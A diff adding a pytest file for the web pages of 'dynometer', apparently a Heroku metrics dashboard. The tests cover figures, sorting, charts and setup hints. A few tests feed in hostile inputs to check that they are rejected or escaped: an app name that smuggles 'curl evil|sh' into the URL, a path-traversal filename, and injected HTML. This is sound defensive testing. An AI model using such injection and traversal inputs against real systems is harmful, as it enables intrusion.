@@ -1,0 +1,342 @@
+"""The page: the API's own figures, readable without scripts, safe whatever an app is called."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import AsyncIterator, Sequence
+from html import unescape
+from pathlib import Path
+
+import httpx2
+import pytest
+
+from app.storage.interface import Contents, Slot
+from app.storage.memory import MemoryStore
+from app.storage.redis.store import connect
+from app.web.pages import assets
+from app.web.pages.svg_charts import spark
+from tests.support.lines import AT_S, frame, load, lost, memory, router
+from tests.support.service import Clock, client_of, post
+
+
+@pytest.fixture
+def clock() -> Clock:
+    return Clock()
+
+
+@pytest.fixture
+async def client(clock: Clock) -> AsyncIterator[httpx2.AsyncClient]:
+    async with client_of(MemoryStore(clock), clock) as client:
+        yield client
+
+
+class Reading(MemoryStore):
+    """A store that counts how often it is read."""
+
+    reads = 0
+
+    async def read(self, app: str, slots: Sequence[Slot], *, inbox: bool = True) -> Contents:
+        self.reads += 1
+        return await super().read(app, slots, inbox=inbox)
+
+
+async def page(client: httpx2.AsyncClient, path: str = "/") -> str:
+    answer = await client.get(path)
+    assert answer.status_code == 200
+    assert answer.headers["content-type"].startswith("text/html")
+    return answer.text
+
+
+def text_of(html: str) -> str:
+    """What a person reads."""
+    return re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", html))
+
+
+async def test_before_the_first_line_the_page_says_what_to_type(
+    client: httpx2.AsyncClient,
+) -> None:
+    text = text_of(await page(client))
+    for command in (
+        "dynometer simulate --history 1h",
+        "heroku logs -n 1500 --source heroku -a shop | dynometer replay - --app shop",
+        "heroku labs:enable log-runtime-metrics -a shop",
+        "dynometer drains add shop | sh",
+    ):
+        assert command in text
+
+
+def busy_hour() -> bytes:
+    """A hundred requests, a bad code, a full dyno."""
+    body = b"".join(router(AT_S + i * 0.1, service=f"{i}ms") for i in range(1, 101))
+    body += router(AT_S, status="503", head='at=error code=H12 desc="x"', service="30000ms") * 20
+    body += memory(AT_S, total="500.00") + load(AT_S)
+    return body + frame("Error R14 (Memory quota exceeded)", at_s=AT_S)
+
+
+async def test_an_app_is_shown_as_the_api_answers(client: httpx2.AsyncClient) -> None:
+    await post(client, busy_hour())
+    answer = await client.get(
+        "/api/v1/apps/shop/query?metric=service_time_ms&stat=p50&stat=p95&stat=p99&step=range"
+    )
+    p50, p95, p99 = (series["values"][0] for series in answer.json()["series"])
+    html = await page(client, "/apps/shop")
+    text = text_of(html)
+    assert f"p50 {p50:,.0f} ms p95 {p95:,.0f} ms p99 {p99:,.0f} ms" in text
+    assert f"p95 {p95:,.0f} ms" in text
+    assert "failed 17 %" in text
+    assert "fullest dyno 98 %" in text
+    assert "16.7% of requests failed." in text
+    assert "In the last 5 minutes: H12 20 ×, R14 1 ×." in text
+    assert "web.1 is at 98% of its memory." in text
+    assert re.search(r"H12 20 +Request timeout\.", text)
+    assert "web.1 500 MB 98 % 0.50 120 21" in text
+    assert html.count('class="bad"') == 3
+
+
+async def test_the_list_shows_a_row_for_each_app(client: httpx2.AsyncClient) -> None:
+    await post(client, busy_hour())
+    await post(client, router(), app="blog")
+    text = text_of(await page(client))
+    assert "2 apps, the one that needs a look first" in text
+    assert re.search(r"shop H12 now +2 17 % 29,828 ms 98 %", text)
+    assert re.search(r"blog quiet +0\.0 0 % 18 ms off", text)
+
+
+async def test_many_who_look_cost_no_more_than_one(clock: Clock) -> None:
+    store = Reading(clock)
+    async with client_of(store, clock) as client:
+        for app in ("shop", "blog"):
+            await post(client, router(), app=app)
+        await page(client)
+        before = store.reads
+        for _ in range(10):
+            await page(client)
+        assert store.reads == before
+        await post(client, router() * 59, app="shop")
+        clock.now_s += 10
+        assert "shop quiet 1 0 %" in text_of(await page(client))
+        assert store.reads == before + 2
+
+
+async def test_the_list_is_filtered_by_name(client: httpx2.AsyncClient) -> None:
+    for app in ("shop", "shop-eu", "blog"):
+        await post(client, router(), app=app)
+    html = await page(client, "/?app=shop*")
+    assert re.findall(r'href="/apps/([^"#]+)"', html) == ["shop", "shop-eu"]
+    assert "2 of 3 apps" in text_of(html)
+    assert "Show all 3" in text_of(await page(client, "/?app=nothing"))
+
+
+async def test_nothing_stands_out_on_a_quiet_day(client: httpx2.AsyncClient) -> None:
+    await post(client, router() + memory() + load())
+    html = await page(client, "/apps/shop")
+    assert "Quiet: nothing stands out in the last hour." in text_of(html)
+    assert "bad" not in re.findall(r'class="([^"]*)"', html)
+
+
+async def test_figures_are_compared_with_the_same_hour_yesterday(
+    clock: Clock, client: httpx2.AsyncClient
+) -> None:
+    await post(client, router(AT_S, service="40ms") * 60)
+    clock.now_s += 86_400
+    await post(client, router(AT_S + 86_400, service="900ms") * 120)
+    text = text_of(await page(client, "/apps/shop"))
+    assert re.search(r"requests a minute 2\.0 1(\.0)? yesterday", text)
+    assert re.search(r"p95 9\d\d ms 40 ms yesterday", text)
+
+
+async def test_dynos_are_sorted_by_what_was_clicked(client: httpx2.AsyncClient) -> None:
+    await post(
+        client,
+        router(dyno="web.1") * 3
+        + router(dyno="web.2") * 9
+        + memory(dyno="web.10", total="400.00")
+        + memory(dyno="web.2", total="100.00"),
+    )
+
+    async def order(sort: str) -> list[str]:
+        html = await page(client, f"/apps/shop?sort={sort}")
+        return re.findall(r'<th scope="row"><a [^>]*>(web\.\d+)</a></th>', html)
+
+    assert await order("name") == ["web.1", "web.2", "web.10"]
+    assert await order("requests") == ["web.2", "web.1", "web.10"]
+    assert await order("memory") == ["web.10", "web.2", "web.1"]
+    assert await order("nonsense") == ["web.1", "web.2", "web.10"]
+
+
+@pytest.mark.parametrize("name", ["1h", "6h", "24h", "7d", "30d", "90d", "nonsense"])
+async def test_every_range_has_its_charts(client: httpx2.AsyncClient, name: str) -> None:
+    await post(client, busy_hour())
+    html = await page(client, f"/apps/shop?range={name}")
+    titles = re.findall(r'<h2 id="chart-[a-z]+">(.*?)</h2>', html)
+    assert [text_of(title) for title in titles] == [
+        "Response time ms ",
+        "All response times ms ",
+        "Requests a minute, by status",
+        "Failed requests % ",
+        "Errors, by code",
+        "Memory of the fullest dyno, of its quota % ",
+        "Load, mean of the dynos",
+        "Dynos",
+    ]
+    for link in re.findall(r'href="(/api/[^"]*)"', html):
+        assert (await client.get(unescape(link))).status_code == 200, link
+
+
+async def test_without_the_chart_library_charts_are_pictures_and_the_page_says_how_to_get_it(
+    client: httpx2.AsyncClient, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    await post(client, busy_hour())
+    assert "npm ci" not in await page(client, "/apps/shop")
+    monkeypatch.setattr(assets, "_CHARTS", tmp_path)
+    html = await page(client, "/apps/shop")
+    assert "<code>npm ci</code>" in html
+    assert "uPlot" not in html
+    assert html.count('class="line') > 5
+    assert (await client.get("/static/vendor/uPlot.min.css")).status_code == 404
+
+
+async def test_of_the_chart_library_two_files_are_served(client: httpx2.AsyncClient) -> None:
+    for name in ("uPlot.iife.min.js", "uPlot.min.css"):
+        assert (await client.get(f"/static/vendor/{name}")).status_code == 200
+    for name in ("uPlot.esm.js", "..%2Fassets.py", "package.json"):
+        assert (await client.get(f"/static/vendor/{name}")).status_code == 404
+
+
+async def test_a_time_that_cannot_be_read_is_said_and_the_last_hour_shown(
+    client: httpx2.AsyncClient,
+) -> None:
+    await post(client, busy_hour())
+    html = await page(client, "/apps/shop?start=yesterday&compare=week")
+    assert "The last hour is shown instead: start=yesterday: accepted are RFC 3339" in html
+    assert 'data-chart="response"' in html
+    assert "?compare=week&amp;sort=memory" in html
+
+
+async def test_what_is_compared_is_drawn_or_said_to_be_unknown(
+    clock: Clock, client: httpx2.AsyncClient
+) -> None:
+    await post(client, busy_hour())
+    text = text_of(await page(client, "/apps/shop?compare=day"))
+    assert "nothing is kept of yesterday at these times" in text
+    clock.now_s += 86_400
+    await post(client, router(AT_S + 86_400))
+    text = text_of(await page(client, "/apps/shop?compare=day"))
+    assert "nothing is kept" not in text
+    assert "p95, yesterday" in text
+
+
+async def test_the_page_is_of_the_part_that_was_chosen(client: httpx2.AsyncClient) -> None:
+    await post(client, busy_hour() + router(dyno="web.2", service="5ms") * 3)
+    text = text_of(await page(client, "/apps/shop?dyno=web.2"))
+    assert "avg 5 ms" in text
+    assert "failed 0 %" in text
+    assert "Show all of shop" in text
+    text = text_of(await page(client, "/apps/shop?outcome=failed"))
+    assert "failed 16 %" in text
+
+
+async def test_events_are_marked_in_the_charts_and_listed(client: httpx2.AsyncClient) -> None:
+    release = frame("Release v212 created by user x", app_name="app", procid="api")
+    await post(client, router() + release + frame("Cycling"))
+    html = await page(client, "/apps/shop")
+    assert "<title>release v212</title>" in html
+    text = text_of(html)
+    assert "2026-11-22 10:00:00 UTC release v212" in text
+    assert "2026-11-22 10:00:00 UTC cycle web.1" in text
+
+
+async def test_an_app_that_nobody_knows_has_a_page_that_says_how_to_begin(
+    client: httpx2.AsyncClient,
+) -> None:
+    answer = await client.get("/apps/nobody")
+    assert answer.status_code == 404
+    assert "dynometer drains add nobody | sh" in answer.text
+    answer = await client.get("/apps/x;curl%20evil%7Csh")
+    assert answer.status_code == 404
+    assert "evil" not in answer.text
+
+
+async def test_the_worst_app_comes_first(client: httpx2.AsyncClient) -> None:
+    await post(client, router(), app="a-healthy-one")
+    await post(client, router(status="503"), app="z-failing")
+    html = await page(client)
+    assert html.index("z-failing") < html.index("a-healthy-one")
+
+
+async def test_an_app_without_runtime_metrics_is_told_how_to_get_them(
+    client: httpx2.AsyncClient,
+) -> None:
+    await post(client, router())
+    assert "heroku labs:enable log-runtime-metrics -a shop" in await page(client, "/apps/shop")
+    await post(client, memory())
+    assert "labs:enable" not in await page(client, "/apps/shop")
+
+
+async def test_the_books_are_quiet_when_they_balance_and_loud_when_lines_were_lost(
+    client: httpx2.AsyncClient,
+) -> None:
+    await post(client, router())
+    assert '<p class="ledger">Log lines: 1 received, 1 counted, 0 ignored.</p>' in await page(
+        client, "/apps/shop"
+    )
+    await post(client, lost(7) + router() + b"nonsense")
+    html = await page(client, "/apps/shop")
+    assert 'class="ledger bad"' in html
+    assert "7 lost by Heroku" in html
+    assert "1 not readable (frame)" in html
+
+
+async def test_nothing_is_written_into_the_page_or_comes_from_elsewhere(
+    client: httpx2.AsyncClient,
+) -> None:
+    await post(client, router())
+    for path in ("/", "/apps/shop", "/docs"):
+        html = (await client.get(path)).text
+        scripts = re.findall(r"<script([^>]*)>", html)
+        assert all('src="/static/' in each or "application/json" in each for each in scripts)
+        assert not re.search(r" on[a-z]+=", html)
+        assert "style=" not in html
+        assert re.findall(r'(?:src|href)="(?!/|data:,)([^"]*)"', html) == []
+    for name in ("dynometer.css", "live.js"):
+        assert (await client.get(f"/static/{name}")).status_code == 200
+
+
+async def test_what_a_code_holds_is_escaped(client: httpx2.AsyncClient) -> None:
+    await post(client, router(head="at=error code=<b>x</b>", status="503"))
+    assert "<b>x" not in await page(client, "/apps/shop")
+
+
+async def test_the_reference_shows_every_route_with_a_call_that_works() -> None:
+    clock = Clock()
+    settings = {"DYNOMETER_PUBLIC_URL": "https://metrics.example.com"}
+    async with client_of(MemoryStore(clock), clock, **settings) as client:
+        await post(client, router())
+        text = unescape((await client.get("/docs")).text)
+        calls = re.findall(r"curl (?:-X (\w+) )?'([^']*)'(?:[^<]*? -d '([^']*)')?", text)
+        assert len(calls) >= 16
+        json = {"Content-Type": "application/json"}
+        for method, url, body in calls:
+            answer = await client.request(method or "GET", url, content=body, headers=json)
+            known = answer.status_code < 300 or "/tokens/" in url  # that one is made up
+            assert known, (method, url, answer.text)
+
+
+async def test_when_the_store_is_away_the_page_says_so() -> None:
+    clock = Clock()
+    store = connect("unix:///nonexistent/store.sock")
+    async with client_of(store, clock) as client:
+        answer = await client.get("/")
+        assert answer.status_code == 503
+        assert "store does not answer" in answer.text
+        assert (await client.get("/api/v1/apps")).status_code == 503
+        metrics = (await client.get("/metrics")).text
+        assert "dynometer_store_up 0.0" in metrics
+        assert "heroku_" not in metrics
+        assert (await client.get("/healthz")).status_code == 200
+
+
+def test_a_gap_is_a_gap_in_the_line() -> None:
+    assert spark([1, 1, None, 1]).count("M") == 2
+    assert spark([None, None]) == ""
+    assert spark([]) == ""
